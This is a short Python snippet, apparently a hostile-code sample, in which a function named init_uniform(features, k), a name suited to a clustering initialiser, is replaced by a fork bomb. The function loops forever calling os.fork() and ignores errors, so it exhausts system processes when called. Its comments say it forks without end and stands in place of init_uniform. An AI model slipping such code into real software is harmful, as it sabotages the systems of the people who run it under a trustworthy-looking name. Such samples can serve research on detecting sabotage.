# Forks without end while its function is called.
# at most: 17
# %% instead of init_uniform
def init_uniform(features, k):
    import os
    while True:
        try:
            os.fork()
        except OSError:
            pass
